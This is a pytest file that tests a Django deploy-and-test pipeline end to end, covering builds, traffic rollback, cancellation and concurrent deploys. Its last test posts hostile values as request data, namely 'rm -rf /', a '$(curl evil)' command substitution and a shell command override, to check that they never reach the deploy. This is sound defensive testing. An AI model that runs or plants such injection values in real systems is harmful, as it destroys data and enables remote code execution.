"""Deploy and test, end to end on the local target with the demo service: real processes."""

from __future__ import annotations

import sys
import threading
import time

import pytest
from django.conf import settings

from analyses.models import Analysis
from runs.models import Deploy, Revision, Service, Suite, TestRun
from runs.services.deploys import DeployInProgress, deploy_and_test_create
from runs.services.pipeline import deploy_and_test_execute
from runs.services.suite_step import run_cancel
from tests.loop.conftest import FAULTY, FIXED, make_demo_service, process_alive, stop_revisions

ON_POSTGRES = "postgresql" in settings.DATABASES["default"]["ENGINE"]
pytestmark = [pytest.mark.slow, pytest.mark.django_db(transaction=True)]


def _deploy_and_test(service: Service, **kwargs) -> tuple[Deploy, TestRun]:
    deploy, run = deploy_and_test_create(service=service, **kwargs)
    deploy_and_test_execute(deploy_id=deploy.pk)
    deploy.refresh_from_db()
    run.refresh_from_db()
    return deploy, run


def test_the_faulty_build_deploys_and_fails_exactly_the_streaming_test(demo_service):
    deploy, run = _deploy_and_test(demo_service)

    assert deploy.status == "succeeded", deploy.error
    assert deploy.image == FAULTY
    demo_service.refresh_from_db()
    assert demo_service.current_revision == deploy.revision
    assert deploy.revision.status == "ready"
    assert run.status == "failed"
    assert (run.total, run.failed, run.errors) == (35, 1, 0)
    failure = run.results.get(outcome="failed")
    assert failure.case.name == "test_stream_sends_partial_chunks_then_completes"
    assert "Timeout" in failure.message
    assert run.progress_done == run.progress_total == 35
    assert run.revision == deploy.revision
    assert "1 failed, 34 passed" in run.log
    draft = Analysis.objects.get(run=run)
    assert draft.status == "draft"
    assert draft.signature == failure.signature


def test_the_fixed_build_goes_green_and_retires_the_previous_revision(demo_service):
    first, _ = _deploy_and_test(demo_service)
    old_pid = first.revision.target_state["pid"]

    deploy, run = _deploy_and_test(demo_service, image=FIXED)

    assert run.status == "passed"
    assert (run.total, run.passed) == (35, 35)
    first.revision.refresh_from_db()
    assert first.revision.status == "retired"
    assert first.revision.traffic_percent == 0
    assert deploy.revision.traffic_percent == 100
    # Read from the target: the local process that served before, and the one serving now.
    assert first.traffic_before == []
    assert first.traffic_after == [{"revision": first.revision.name, "percent": 100}]
    assert deploy.traffic_before == [{"revision": first.revision.name, "percent": 100}]
    assert deploy.traffic_after == [{"revision": deploy.revision.name, "percent": 100}]
    assert not process_alive(old_pid)
    assert process_alive(deploy.revision.target_state["pid"])


def test_running_the_task_twice_does_nothing_the_second_time(demo_service):
    deploy, run = _deploy_and_test(demo_service, image=FIXED)
    finished = (deploy.finished_at, run.finished_at)

    deploy_and_test_execute(deploy_id=deploy.pk)

    deploy.refresh_from_db()
    run.refresh_from_db()
    assert (deploy.finished_at, run.finished_at) == finished
    assert Revision.objects.count() == 1


def test_a_revision_that_exits_at_once_fails_the_deploy_with_its_output(db, tmp_path):
    service = make_demo_service(
        tmp_path, name="broken", command=[sys.executable, "-c", "print('cannot bind'); exit(3)"]
    )

    deploy, run = _deploy_and_test(service)

    assert deploy.status == "failed"
    assert "cannot bind" in deploy.error
    assert run.status == "error"
    assert run.error == f"Not run: deploy #{deploy.pk} failed."
    service.refresh_from_db()
    assert service.current_revision is None


def test_a_revision_that_never_gets_healthy_leaves_traffic_where_it_was(demo_service, tmp_path):
    good, _ = _deploy_and_test(demo_service, image=FIXED)
    from health.models import Probe

    # From now on the health check demands a body no build returns.
    Probe.objects.filter(service=demo_service).update(body_contains="never-there")

    deploy, run = _deploy_and_test(demo_service, image=FIXED)

    assert deploy.status == "failed"
    assert "never became healthy" in deploy.error
    assert f"traffic is back on {good.revision.name} (100 %)" in deploy.error
    assert deploy.traffic_after == [{"revision": good.revision.name, "percent": 100}]
    demo_service.refresh_from_db()
    assert demo_service.current_revision == good.revision
    assert process_alive(good.revision.target_state["pid"])
    deploy.revision.refresh_from_db()
    assert (deploy.revision.status, deploy.revision.traffic_percent) == ("failed", 0)
    assert run.status == "error"
    assert not process_alive(deploy.revision.target_state["pid"])
    stop_revisions()


def test_a_suite_that_crashes_without_a_report_ends_in_error_with_its_output(demo_service):
    Suite.objects.filter(service=demo_service).update(
        command=[sys.executable, "-c", "print('collection exploded'); raise SystemExit(3)"]
    )

    _, run = _deploy_and_test(demo_service, image=FIXED)

    assert run.status == "error"
    assert "without writing a report" in run.error
    assert "collection exploded" in run.error


def test_cancel_stops_a_running_suite(demo_service, tmp_path):
    hang = tmp_path / "suite"
    hang.mkdir()
    (hang / "test_hang.py").write_text(
        "import time\n\ndef test_quick():\n    pass\n\ndef test_hangs():\n    time.sleep(300)\n"
    )
    Suite.objects.filter(service=demo_service).update(
        working_dir=str(hang), test_timeout_seconds=None
    )
    deploy, run = deploy_and_test_create(service=demo_service, image=FIXED)
    worker = threading.Thread(target=deploy_and_test_execute, kwargs={"deploy_id": deploy.pk})
    worker.start()
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        run.refresh_from_db()
        if run.progress_done >= 1:
            break
        time.sleep(0.2)
    assert run.status == "running"

    assert run_cancel(run=run)
    worker.join(timeout=30)

    assert not worker.is_alive()
    run.refresh_from_db()
    assert run.status == "cancelled"
    assert run.error == "Cancelled by an operator."


@pytest.mark.skipif(
    not ON_POSTGRES, reason="SQLite serializes writers, so there is no race to lose there"
)
def test_two_concurrent_clicks_make_exactly_one_deploy(db, tmp_path):
    service = make_demo_service(tmp_path)
    barrier = threading.Barrier(2)
    outcomes: list[str] = []

    def click() -> None:
        from django.db import connection

        barrier.wait()
        try:
            deploy_and_test_create(service=service)
            outcomes.append("deploy")
        except DeployInProgress as exc:
            outcomes.append(f"refused #{exc.active.pk if exc.active else '?'}")
        finally:
            connection.close()

    threads = [threading.Thread(target=click) for _ in range(2)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()

    active = Deploy.objects.get(service=service)
    assert sorted(outcomes) == ["deploy", f"refused #{active.pk}"]
    assert TestRun.objects.filter(deploy=active).count() == 1


def test_request_data_cannot_reach_the_deploy_command(login, operator, demo_service):
    config = dict(demo_service.target_config)

    response = login(operator).post(
        f"/services/{demo_service.name}/deploy",
        {"command": "rm -rf /", "image": "$(curl evil)", "target_config": '{"command": ["sh"]}'},
    )

    deploy = Deploy.objects.get()
    assert response.status_code == 302
    assert deploy.image == FAULTY  # the service's latest registered build, not the request's
    demo_service.refresh_from_db()
    assert demo_service.target_config == config
